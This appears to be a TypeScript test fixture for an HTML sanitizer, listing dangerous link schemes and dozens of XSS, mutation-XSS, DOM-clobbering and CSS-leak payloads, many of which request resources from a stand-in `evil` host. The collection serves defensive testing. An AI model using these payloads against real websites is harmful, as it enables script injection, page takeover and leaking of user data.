/** Addresses that must never be followed, loaded or asked for, as links of any kind. */
export const HOSTILE_LINKS = [
	"javascript:alert(1)",
	" java\nscript:alert(1)",
	"JaVaScRiPt:alert(1)//https://news.example/",
	"data:text/html,<script>alert(1)</script>",
	"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>",
	"vbscript:alert(1)",
	"blob:https://news.example/1",
	"file:///etc/passwd",
	"chrome://settings/",
	"view-source:https://news.example/",
	"chrome-extension://aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa/options.html",
	"//news.example/%0ajavascript:alert(1)",
];

/**
 * Pieces of HTML beyond those of ../shared that try to run something, to ask an address for something, or to take
 * the page over. Each asks only what lies under `evil`, an address without a slash at its end.
 */
export const hostilePieces = (evil: string): string[] => [
	// A browser that reads what it wrote finds another tree: MathML and SVG hold HTML in some places.
	'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
	'<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
	'<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
	'<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
	'<math><mi xlink:href="javascript:alert(1)" href="javascript:alert(1)">x</mi></math>',
	`<math href="javascript:alert(1)"><mglyph src="${evil}/glyph.png"></mglyph></math>`,
	'<math><maction actiontype="statusline#javascript:alert(1)" href="javascript:alert(1)">click</maction></math>',
	'<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
	`<noscript><img src="${evil}/noscript.gif" width="1" height="1"><script src="${evil}/noscript.js"></script></noscript>`,
	`<template><script>alert(1)</script><img src="${evil}/template.png" onerror="alert(1)"></template>`,
	`<div><template shadowrootmode="open"><script>alert(1)</script><img src="${evil}/shadow.gif" onerror="alert(1)"></template></div>`,
	'<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp><plaintext><img src=x onerror=alert(1)>',
	// Styles that leave the article, ask for something, or read what is there.
	`</style></title></textarea><style>body{display:none}@import url(${evil}/import.css);</style>`,
	`<p style="background:url(${evil}/background.png);position:fixed;inset:0">over everything</p>`,
	`<style>a[href^="h"]{background:url(${evil}/leak)}:root{--paper:red}@font-face{font-family:x;src:url(${evil}/font)}</style>`,
	`<link rel="stylesheet" href="${evil}/sheet.css"><link rel="preload" as="image" href="${evil}/preload.png"><link rel="prefetch" href="${evil}/prefetch"><link rel="modulepreload" href="${evil}/m.js"><link rel="dns-prefetch" href="${evil}">`,
	`<table background="${evil}/table.png"><tr><td background="${evil}/cell.png">a</td></tr><tr><td>b</td></tr></table>`,
	`<p class="article-tools reader-article unseen" id="reader-list">in our clothes</p>`,
	// Names that stand in for what a page's own scripts use.
	'<a id="document" name="document"></a><img name="querySelector"><form id="body" name="body"><input name="attributes"><input name="children"><input id="parentNode"></form>',
	'<form name="createElement"><input name="getElementById"></form><a id="chrome"></a><a id="browser" href="cid:x"></a><img name="adoptNode" id="location">',
	'<p id="in-text-1">ours</p><a href="#in-text-2">two</a><span id="in-text-2" onclick="alert(1)" data-part="audio">x</span>',
	// Pictures by other ways.
	`<img srcset="javascript:alert(1) 2x, data:text/html,<script>alert(1)</script> 3x" onerror="alert(1)">`,
	`<picture><source srcset="javascript:alert(1)" onerror="alert(1)"><source media="print" srcset="${evil}/print.gif 1w"></picture>`,
	`<input type="image" src="${evil}/input.png" onerror="alert(1)"><input onfocus="alert(1)" autofocus>`,
	`<video src="${evil}/v.mp4" autoplay onloadstart="alert(1)"><track src="${evil}/t.vtt"></video><audio autoplay preload="auto" onerror="alert(1)"><source src="${evil}/a.mp3"></audio>`,
	// SVG that runs, draws on from elsewhere, or holds HTML.
	`<svg width="99" height="99"><path d="M0 0h9v9z"/><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x" xlink:href="${evil}/use.svg#x"/><image href="${evil}/image.png"/></svg>`,
	'<svg width="99" height="99" onload="alert(1)"><path d="M0 0h9v9z"/><script>alert(1)</script><animate attributeName="href" values="javascript:alert(1)" onbegin="alert(1)"/><set attributeName="onmouseover" to="alert(1)"/></svg>',
	`<svg width="99" height="99"><rect width="9" height="9"/><foreignObject width="99" height="99"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:alert(1)"></iframe><img src="${evil}/foreign.png" onerror="alert(1)"></body></foreignObject></svg>`,
	`<svg width="99" height="99"><rect width="9" height="9" style="fill:url(${evil}/fill.svg#a)" filter="url(${evil}/filter.svg#f)"/><style>@import "${evil}/svg.css"; rect{fill:url(${evil}/svg-fill)}</style><a xlink:href="javascript:alert(1)"><text y="20">click</text></a></svg>`,
	`<svg viewBox="0 0 99 99"><title></title><rect width="9" height="9"/><feImage href="${evil}/fe.png"/></svg>`,
	// What navigates, sends or opens.
	`<meta http-equiv="refresh" content="0;url=${evil}/refresh"><base href="${evil}/base/"><a href="relative">r</a>`,
	`<form action="${evil}/form"><button formaction="javascript:alert(1)" autofocus>b</button><input type="submit" formaction="${evil}/send"></form>`,
	'<button popovertarget="p">open</button><div popover="auto" id="p" onbeforetoggle="alert(1)">over</div><dialog open onclose="alert(1)">d</dialog>',
	`<a href="${evil}/page" target="_self" rel="opener" ping="${evil}/ping" download onclick="alert(1)" referrerpolicy="unsafe-url">a</a>`,
	`<map name="m"><area shape="default" href="javascript:alert(1)"></map><img usemap="#m" ismap alt="">`,
	`<object data="${evil}/object.html" type="text/html"><param name="movie" value="javascript:alert(1)"></object><embed src="javascript:alert(1)"><applet code="x" archive="${evil}/x.jar"></applet>`,
	`<iframe srcdoc="<script>parent.alert(1)</script>"></iframe><iframe src="javascript:parent.alert(1)"></iframe><iframe src="data:text/html,<script>parent.alert(1)</script>"></iframe><frameset onload="alert(1)"><frame src="${evil}/frame"></frameset>`,
	`<portal src="${evil}/portal"></portal><fencedframe src="${evil}/fenced"></fencedframe>`,
	'<details open ontoggle="alert(1)"><summary accesskey="x" onfocus="alert(1)" tabindex="1">s</summary>d</details>',
	'<p contenteditable onbeforeinput="alert(1)" autofocus onfocus="alert(1)" draggable="true" inert is="x-y">edit</p><x-y onclick="alert(1)" slot="a">own element</x-y>',
	'<p onanimationstart="alert(1)" style="animation:ticker-fade 1s" ontransitionend="alert(1)">moves</p><marquee onstart="alert(1)">m</marquee>',
	'<?xml-stylesheet href="javascript:alert(1)"?><!--><img src=x onerror=alert(1)>--><![CDATA[><img src=x onerror=alert(1)>]]>',
	"\u202e\u2067<b>turned round</b>",
];
